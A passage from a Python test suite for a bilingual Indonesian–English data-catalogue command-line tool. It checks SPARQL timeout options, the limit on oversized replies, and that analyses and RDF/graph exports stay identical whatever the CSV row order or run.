            f"server SPARQL di {url} tidak menjawab dalam 3 detik: periksa servernya, atau beri --timeout "
            f"yang lebih besar / SPARQL server at {url} did not answer within 3 s: check the server, or give a "
            "larger --timeout"), command


def test_timeout_is_offered_by_every_command_that_takes_endpoint():
    from cli import main as group

    with_endpoint = [name for name, command in group.commands.items()
                     if any(p.name == "endpoint_url" for p in command.params)]
    assert {"push", "regions", "counts", "stats", "sparql", "report"} <= set(with_endpoint)
    for name in with_endpoint:
        timeout = [p for p in group.commands[name].params if p.name == "timeout"]
        assert timeout and timeout[0].default == 60.0, name


def test_a_reply_larger_than_the_limit_is_refused(bad_server, monkeypatch):
    from synergy import endpoint
    from synergy.errors import SynergyError

    url, state = bad_server
    monkeypatch.setattr(endpoint, "MAX_REPLY_BYTES", 1000)
    state["reply"] = b'{"head": {"vars": ["x"]}, "results": {"bindings": [' + b'{}, ' * 2000 + b"{}]}}"
    with pytest.raises(SynergyError, match=r"^jawaban server SPARQL di .* lebih dari 0 MB"):
        endpoint.query(url, "SELECT ?x WHERE {}")


# --------------------------------------------------------- 10. determinism elsewhere
@pytest.fixture(scope="module")
def shuffled_sample(tmp_path_factory):
    """The sample city's CSV folder twice: as shipped, and every table's rows shuffled."""
    import csv
    import io
    import random

    root = tmp_path_factory.mktemp("order")
    rng = random.Random(15)
    for name in ("kept", "shuffled"):
        folder = root / name
        folder.mkdir()
        for path in sorted((ROOT / "data" / "pasuruan").glob("*.csv")):
            if path.name == "answer_key.csv":
                continue
            rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
            body = rows[1:]
            if name == "shuffled":
                rng.shuffle(body)
            buffer = io.StringIO()
            csv.writer(buffer, lineterminator="\n").writerows([rows[0], *body])
            (folder / path.name).write_text(buffer.getvalue(), encoding="utf-8")
    return root / "kept", root / "shuffled"


# every analysis, the duplicate finders' reasons included (their stems are chosen per word,
# not per first occurrence)
ORDER_FREE = [
    ["duplicates"], ["duplicates", "--clusters"], ["duplicates", "--of", "applications"], ["shared-data"],
    ["stats"], ["deps", "DS-NIK"], ["deps", "P-001", "--direction", "upstream"], ["cycles"], ["impact", "DS-NIK"],
    ["roadmap"], ["counts"], ["chain", "DS-NIK", "P-024"],
    ["metrics", "--what", "matrix", "--no-duplicates"], ["metrics", "--what", "coverage"],
    ["metrics", "--what", "communities", "--no-duplicates"], ["metrics", "--what", "critical"],
    ["metrics", "--what", "chains"],
]


@pytest.mark.parametrize("command", ORDER_FREE, ids=" ".join)
def test_analyses_do_not_depend_on_row_order(shuffled_sample, command):
    kept, shuffled = shuffled_sample
    first = run(command[0], kept, *command[1:], "--format", "csv")
    second = run(command[0], shuffled, *command[1:], "--format", "csv")
    assert first.exit_code == 0 and second.exit_code == 0, (first.output, second.output)
    assert first.stdout == second.stdout


@pytest.mark.parametrize("suffix", [".ttl", ".nt", ".jsonld", ".graphml", ".gexf", ".dcat.ttl"])
def test_exports_are_the_same_bytes_whatever_the_row_order_and_run(shuffled_sample, tmp_path, suffix):
    kept, shuffled = shuffled_sample
    fmt = ["--format", "dcat"] if suffix.startswith(".dcat") else []
    written = []
    for source, run_in in ((kept, "child"), (shuffled, "here"), (kept, "here")):
        target = tmp_path / f"{len(written)}{suffix}"
        if run_in == "child":  # another process: another hash seed for rdflib's tables
            done = subprocess.run([sys.executable, str(ROOT / "cli.py"), "export", str(source), *fmt, "-o", str(target)],
                                  capture_output=True, text=True, cwd=ROOT, timeout=300)
            assert done.returncode == 0, done.stderr
        else:
            assert run("export", source, *fmt, "-o", target).exit_code == 0
        written.append(target.read_bytes())
    assert written[0] == written[1] == written[2]


def test_blank_nodes_of_the_ontology_print_the_same_every_run():
    query = "SELECT ?s ?p ?o WHERE { ?s ?p ?o FILTER(isBlank(?s)) } ORDER BY ?s ?p ?o"
    outputs = []
    for _ in range(2):
        done = subprocess.run([sys.executable, str(ROOT / "cli.py"), "sparql", query, "--format", "csv"],
                              capture_output=True, text=True, cwd=ROOT, timeout=300)
        assert done.returncode == 0, done.stderr
        outputs.append(done.stdout)
    assert len(outputs[0].splitlines()) > 1 and outputs[0] == outputs[1]
